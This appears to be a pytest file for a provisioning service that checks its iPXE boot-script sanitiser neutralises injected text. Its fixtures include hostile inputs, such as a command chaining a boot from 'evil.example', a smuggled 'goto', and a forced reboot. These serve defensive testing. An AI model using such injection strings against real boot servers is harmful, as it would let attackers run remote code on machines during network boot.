"""What the iPXE scripts echo: text from a request or a workflow (a reason, a MAC, a name)
is reduced to characters that mean nothing to iPXE, so it can neither expand a setting,
chain a command nor start a new line; each script is one echo per line, then ``exit``.
Served by the boot endpoint: tests/api/test_boot.py and test_boot_input.py."""

import re

import pytest
from hostile import HOSTILE_TEXT

from provisioner.domain import ipxe

#: Text iPXE would act on inside an echo, beside the shell-flavoured hostile values.
IPXE_HOSTILE = {
    "setting": "${net0/mac}",
    "setting-short": "$mac",
    "or": "a || reboot",
    "and": "a && chain http://evil.example/x",
    "goto": "x\ngoto failed",
    "comment": "x # y",
    "tab": "a\tb",
    "nul": "a\x00b",
    "unicode": "naïve ✓",
    "line-separator": "a\u2028b",
    "braces": "{x}",
    "pipe": "a|b",
    "ampersand": "a&b",
    "quote": 'a"b',
    "backslash": "a\\b",
    **{f"shell-{name}": value for name, value in HOSTILE_TEXT.items()},
}
#: What ``safe`` lets through.
ALLOWED = re.compile(r"^[A-Za-z0-9 .,:;_/=+()@%'!?<>*\[\]-]*\Z")


@pytest.mark.parametrize("text", IPXE_HOSTILE.values(), ids=IPXE_HOSTILE)
def test_hostile_text_is_reduced_to_inert_characters(text):
    shown = ipxe.safe(text)
    assert ALLOWED.match(shown), shown
    assert "$" not in shown and "&" not in shown and "|" not in shown and "\n" not in shown
    assert len(shown) == len(text)  # each refused character becomes one "?"


@pytest.mark.parametrize(
    "text",
    [
        "52:54:00:12:34:56",
        "node 3fa85f64-5717-4562-b3fc-2c963f66afa6",
        "mac: 52:54:00:12:34:5g is not a MAC address (expected aa:bb:cc:dd:ee:ff)",
        "Debian 12 (bookworm) [netinst] 100% ok!",
        "",
    ],
)
def test_plain_text_is_unchanged(text):
    assert ipxe.safe(text) == text


def test_long_text_is_cut_at_300_characters():
    assert ipxe.safe("x" * 1000) == "x" * 300


@pytest.mark.parametrize("text", IPXE_HOSTILE.values(), ids=IPXE_HOSTILE)
@pytest.mark.parametrize(
    "script",
    [
        ipxe.local_boot,
        ipxe.server_trouble,
        ipxe.request_error,
        ipxe.wait_and_exit,
        lambda text: ipxe.registered(text, text),
    ],
    ids=["local_boot", "server_trouble", "request_error", "wait_and_exit", "registered"],
)
def test_every_script_keeps_hostile_text_on_its_own_echo_line(script, text):
    lines = script(text).splitlines()
    assert lines[0] == "#!ipxe"
    assert lines[-1] == "exit"
    for line in lines[1:-1]:
        assert line.startswith(("echo provisioner: ", "# provisioner: ", "sleep ")), line
        assert "$" not in line and "||" not in line and "&&" not in line
